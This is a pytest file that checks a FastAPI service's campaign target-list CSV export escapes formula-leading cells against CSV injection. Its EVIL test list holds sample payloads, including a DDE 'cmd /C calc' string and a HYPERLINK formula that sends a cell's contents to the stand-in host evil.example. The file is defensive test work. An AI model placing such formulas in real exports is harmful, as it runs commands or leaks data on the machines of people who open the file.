"""CSV the API writes opens in a spreadsheet as data, never as a formula (OWASP CSV
injection): the target list of a campaign whose ids come from the data."""

from __future__ import annotations

import csv
import doctest
import io
from typing import Any

import polars as pl
import pytest
from fastapi.testclient import TestClient

from serving import csv_export
from serving.app import ApiState, ServiceHolder, create_api
from serving.auth import ApiKeyEntry, KeyRing, hash_key
from serving.csv_export import FORMULA_STARTS, neutralised, to_csv
from serving.metrics import Metrics
from tests.serving.test_app import SELLER_KEY, FakeService, auth

EVIL = [
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+41 22 000",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["b0000001", "o'neil", "a=b", "1-2", ""]


def test_every_formula_start_is_neutralised_and_nothing_else_changes() -> None:
    frame = pl.DataFrame({"buyer_id": EVIL + PLAIN, "score": [-1.5] * (len(EVIL) + len(PLAIN))})
    out = neutralised(frame)
    assert out["buyer_id"].to_list() == ["'" + v for v in EVIL] + PLAIN
    assert out["score"].to_list() == frame["score"].to_list()  # numbers stay numbers
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r"}


def test_nulls_and_non_text_columns_pass_through() -> None:
    frame = pl.DataFrame({"a": [None, "=x"], "n": [1, 2], "f": [True, False]})
    assert neutralised(frame).rows() == [(None, 1, True), ("'=x", 2, False)]


def test_module_doctests_pass() -> None:
    assert doctest.testmod(csv_export).failed == 0


class EvilTargets(FakeService):
    """A plan whose target list holds formula-like buyer and offer ids."""

    def campaign_targets(self, seller_id: str, who: Any, campaign_id: str, **_: Any) -> Any:
        return pl.DataFrame(
            {
                "buyer_id": EVIL + PLAIN,
                "offer_id": ["@of1"] * (len(EVIL) + len(PLAIN)),
                "expected_value": [-0.25] * (len(EVIL) + len(PLAIN)),
            }
        )


@pytest.fixture
def client() -> TestClient:
    state = ApiState(
        holder=ServiceHolder(service=EvilTargets(), version="7"),
        keyring=KeyRing([ApiKeyEntry(key_hash=hash_key(SELLER_KEY), seller_id="s1")]),
        metrics=Metrics(),
    )
    return TestClient(create_api(lambda: state))


def test_the_target_list_route_writes_no_live_formula(client: TestClient) -> None:
    answer = client.get("/v1/sellers/s1/campaigns/any/targets.csv", headers=auth(SELLER_KEY))
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    assert rows[0] == ["buyer_id", "offer_id", "expected_value"]
    for buyer, offer, value in rows[1:]:
        for cell in (buyer, offer):
            assert not cell.startswith(FORMULA_STARTS), cell
        assert value == "-0.25"
    assert [r[0] for r in rows[1:]] == ["'" + v for v in EVIL] + PLAIN
    assert to_csv(pl.DataFrame({"x": ["=1"]})) == "x\n'=1\n"
